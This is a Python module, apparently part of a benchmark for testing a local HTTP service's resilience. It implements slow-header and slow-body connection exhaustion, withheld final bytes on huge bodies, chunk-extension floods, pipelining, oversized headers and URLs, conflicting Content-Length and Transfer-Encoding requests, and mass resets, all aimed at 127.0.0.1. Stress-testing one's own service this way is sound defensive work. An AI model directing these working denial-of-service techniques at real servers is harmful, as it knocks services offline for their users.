"""Attacks by what connections do: idle, slow, endless, unread, or many.

Each is a coroutine function of a target that counts what the attackers saw. Attackers open a connection again when the
service closes it, at most `MAX_OPENED` times in all.
"""

import asyncio
import random
import socket
import struct
from collections import Counter
from collections.abc import Awaitable, Callable, Iterable
from contextlib import suppress
from itertools import count

from bench.attacks.requests import (
    BOUNDARY,
    FORM,
    JSON,
    Target,
    build_form,
    build_json,
    exchange,
    flood,
    parse_status,
    read_answer,
    send,
)
from bench.attacks.structures import MOS2_POINTS

MAX_OPENED = 5_000
_REOPEN_S = 0.1
_STALLED_BYTES = 4096

Behavior = Callable[[Target, socket.socket], Awaitable[None]]


async def occupy(
    target: Target, clients: int, behave: Behavior, addresses: int = 1, receive_bytes: int | None = None
) -> Counter[str]:
    """Have clients open connections and misbehave on them until the end.

    Args:
        target: the service.
        clients: number of simultaneous connections.
        behave: what a client does on its connection, before it waits for the service to close it.
        addresses: number of addresses from which the connections come.
        receive_bytes: size of the receive buffer of a client that reads nothing.
    """
    seen: Counter[str] = Counter()
    opened = count()

    async def client(number: int) -> None:
        source = f"127.0.{1 + number % addresses // 250}.{2 + number % addresses % 250}"
        while not target.is_over and next(opened) < MAX_OPENED:
            try:
                async with asyncio.timeout(target.remaining_s):
                    with await target.connect(source, receive_bytes) as connection:
                        await behave(target, connection)
                        seen[_describe(await read_answer(connection))] += 1
            except TimeoutError:
                seen["still open"] += 1
            except OSError as error:
                seen[type(error).__name__] += 1
            await asyncio.sleep(_REOPEN_S)

    await asyncio.gather(*(client(number) for number in range(clients)))
    return seen


def _describe(answer: bytes) -> str:
    return str(parse_status(answer) or "closed")


def _open_with(beginning: Callable[[Target], bytes]) -> Behavior:
    async def behave(target: Target, connection: socket.socket) -> None:
        await send(connection, beginning(target))

    return behave


def _trickle(
    beginning: Callable[[Target], bytes], pieces: Callable[[], Iterable[bytes]], pause_s: float
) -> Behavior:
    async def behave(target: Target, connection: socket.socket) -> None:
        await send(connection, beginning(target))
        for piece in pieces():
            await asyncio.sleep(pause_s)
            await send(connection, piece)

    return behave


def _head(target: Target, path: str, *, media_type: str = JSON, length: int | None = None) -> bytes:
    framing = "Transfer-Encoding: chunked" if length is None else f"Content-Length: {length}"
    key = f"X-API-Key: {target.key}\r\n" if target.key else ""
    return f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n{key}Content-Type: {media_type}\r\n{framing}\r\n\r\n".encode()


async def _stay_silent(target: Target, connection: socket.socket) -> None:
    """Send nothing."""


def _hold_back_last_byte(path: str, size: int, media_type: str = FORM) -> Behavior:
    begin = build_form(b"")[: -len(f"\r\n--{BOUNDARY}--\r\n")] if media_type == FORM else b'{"points": ['
    piece = b"0," * 2**19
    pieces = (size - len(begin)) // len(piece)

    async def behave(target: Target, connection: socket.socket) -> None:
        length = len(begin) + pieces * len(piece) + 1
        await send(connection, _head(target, path, media_type=media_type, length=length) + begin)
        for _ in range(pieces):
            await send(connection, piece)

    return behave


async def nothing(target: Target) -> Counter[str]:
    """No attack: what the ordinary client sees on this machine."""
    await asyncio.sleep(target.remaining_s)
    return Counter()


async def idle(target: Target) -> Counter[str]:
    """200 connections of one address that send nothing."""
    return await occupy(target, 200, _stay_silent)


async def idle_from_many_addresses(target: Target) -> Counter[str]:
    """1,200 connections of 300 addresses that send nothing."""
    return await occupy(target, 1200, _stay_silent, addresses=300)


async def idle_after_a_request(target: Target) -> Counter[str]:
    """200 connections that stay open after an answered request."""
    return await occupy(target, 200, _open_with(lambda _: b"GET /livez HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"))


async def half_open_headers(target: Target) -> Counter[str]:
    """200 requests whose headers do not end."""
    return await occupy(target, 200, _open_with(lambda target: _head(target, "/predict")[:-2]))


async def slow_headers(target: Target) -> Counter[str]:
    """200 requests whose headers arrive at a byte per second."""
    head = b"GET /livez HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
    return await occupy(
        target, 200, _trickle(lambda _: head, lambda: (b"a" for _ in range(10_000)), 1.0), addresses=20
    )


async def slow_bodies(target: Target) -> Counter[str]:
    """200 requests whose bodies arrive at a byte per second."""
    slow = _trickle(
        lambda target: _head(target, "/predict", length=10_000), lambda: (b"[" for _ in range(10_000)), 1.0
    )
    return await occupy(target, 200, slow, addresses=20)


async def bodies_without_their_last_byte(target: Target) -> Counter[str]:
    """30 forms of 64 MB of which the last byte does not come."""
    return await occupy(target, 30, _hold_back_last_byte("/predict", 64_000_000), addresses=30)


async def json_without_its_last_byte(target: Target) -> Counter[str]:
    """100 JSON bodies of 16 MB of which the last byte does not come."""
    return await occupy(target, 100, _hold_back_last_byte("/predict", 16_000_000, JSON), addresses=10)


async def batches_without_their_last_byte(target: Target) -> Counter[str]:
    """Four batches of 250 MB of which the last byte does not come."""
    return await occupy(target, 4, _hold_back_last_byte("/predict/batch", 250_000_000), addresses=4)


async def one_byte_chunks(target: Target) -> Counter[str]:
    """Four bodies of a million chunks of a byte each."""
    piece = b"1\r\n[\r\n" * 10_000
    fast = _trickle(lambda target: _head(target, "/predict"), lambda: (piece for _ in range(100)), 0.0)
    return await occupy(target, 4, fast)


async def chunk_extensions(target: Target) -> Counter[str]:
    """Four bodies whose chunks have long extensions, and one whose size line does not end."""
    piece = b"1;" + b"a" * 4000 + b"\r\n[\r\n"
    fast = _trickle(lambda target: _head(target, "/predict"), lambda: (piece for _ in range(10_000)), 0.0)
    endless = _trickle(
        lambda target: _head(target, "/predict") + b"1;", lambda: (b"a" * 65536 for _ in range(2000)), 0
    )
    first, second = await asyncio.gather(occupy(target, 4, fast), occupy(target, 1, endless))
    return first + second


async def unread_answers(target: Target) -> Counter[str]:
    """100 clients that request pages without end and read nothing."""
    pages = b"GET /openapi.json HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 200

    async def behave(target: Target, connection: socket.socket) -> None:
        with suppress(TimeoutError):
            async with asyncio.timeout(target.remaining_s / 2):
                await send(connection, pages)
        await asyncio.sleep(target.remaining_s)

    return await occupy(target, 100, behave, receive_bytes=_STALLED_BYTES, addresses=10)


async def pipelining(target: Target) -> Counter[str]:
    """Twenty connections with a thousand requests each in one piece."""
    lives = b"GET /livez HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 1000
    body = build_json(points=MOS2_POINTS, effort="search")
    posts = (_head(Target(0, target.key, 0), "/predict", length=len(body)) + body) * 200
    behaviors = (_open_with(lambda _: lives), _open_with(lambda _: posts))
    seen = await asyncio.gather(*(occupy(target, 10, behave) for behave in behaviors))
    return seen[0] + seen[1]


async def long_headers(target: Target) -> Counter[str]:
    """Headers of 60 kB, ten thousand headers, and a header without an end."""
    many = "".join(f"X-H{number}: a\r\n" for number in range(10_000)).encode()
    begin = b"GET /livez HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    endless = _trickle(lambda _: begin + b"X-Endless: ", lambda: (b"a" * 65536 for _ in range(1000)), 0.0)
    seen = await asyncio.gather(
        flood(
            target,
            [begin + b"X-Long: " + b"a" * 60_000 + b"\r\n\r\n", begin + many + b"\r\n"],
            8,
            pause_s=0.02,
        ),
        occupy(target, 4, endless),
    )
    return seen[0] + seen[1]


async def long_urls(target: Target) -> Counter[str]:
    """Paths and queries of 60 kB, and a path without an end."""
    host = b" HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
    urls = [b"/" + b"%61" * 20_000, b"/structures/" + b"a" * 60_000, b"/predict?" + b"a=1&" * 15_000]
    endless = _trickle(lambda _: b"GET /", lambda: (b"a" * 65536 for _ in range(1000)), 0.0)
    seen = await asyncio.gather(
        flood(target, [b"GET " + url + host for url in urls], 8, pause_s=0.02), occupy(target, 4, endless)
    )
    return seen[0] + seen[1]


async def no_http(target: Target) -> Counter[str]:
    """What is not HTTP: a TLS greeting, noise, an HTTP/2 preface, a request without a version, an upgrade."""
    noise = random.Random(3).randbytes(4000)
    head = b"GET /livez HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    requests = [
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + noise[:500],
        noise,
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"GET /livez\r\n\r\n",
        head + b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: aaaa\r\n\r\n",
        head + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
        head + b"Content-Length: -1\r\n\r\n",
        head + b"Content-Length: 99999999999999999999\r\n\r\n",
        head + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\nhello",
        head.replace(b"127.0.0.1", b"\xff\xfe") + b"\r\n",
        head + b"Bad header\r\n\r\n",
        b"\r\n" * 5000,
        b"\0" * 5000,
    ]

    async def behave(_: Target, connection: socket.socket) -> None:
        await send(connection, random.choice(requests))
        connection.shutdown(socket.SHUT_WR)

    return await occupy(target, 16, behave)


async def opened_and_reset(target: Target) -> Counter[str]:
    """Thousands of connections that are reset at once, some of them in the middle of a request."""

    async def behave(target: Target, connection: socket.socket) -> None:
        await send(
            connection, random.choice((b"", _head(target, "/predict", length=5_000_000) + b"[" * 50_000))
        )
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        raise ConnectionResetError

    return await occupy(target, 50, behave)


async def abandoned_requests(target: Target) -> Counter[str]:
    """Costly requests whose clients leave at once."""
    body = build_json(points=MOS2_POINTS, effort="full")
    request = target.build("POST", "/predict", body)
    seen: Counter[str] = Counter()
    while not target.is_over:
        await exchange(target, request, timeout_s=0.02)
        seen["left"] += 1
        await asyncio.sleep(0.03)
    return seen


async def expectations(target: Target) -> Counter[str]:
    """200 clients that ask whether to send a body, and then do not send it."""
    head = _open_with(
        lambda target: _head(target, "/predict", length=64_000_000).replace(
            b"\r\n\r\n", b"\r\nExpect: 100-continue\r\n\r\n"
        )
    )
    return await occupy(target, 200, head)


CONNECTION_ATTACKS: dict[str, Callable[[Target], Awaitable[Counter[str]]]] = {
    each.__name__.replace("_", "-"): each
    for each in (
        nothing,
        idle,
        idle_from_many_addresses,
        idle_after_a_request,
        half_open_headers,
        slow_headers,
        slow_bodies,
        bodies_without_their_last_byte,
        json_without_its_last_byte,
        batches_without_their_last_byte,
        one_byte_chunks,
        chunk_extensions,
        unread_answers,
        pipelining,
        long_headers,
        long_urls,
        no_http,
        opened_and_reset,
        abandoned_requests,
        expectations,
    )
}
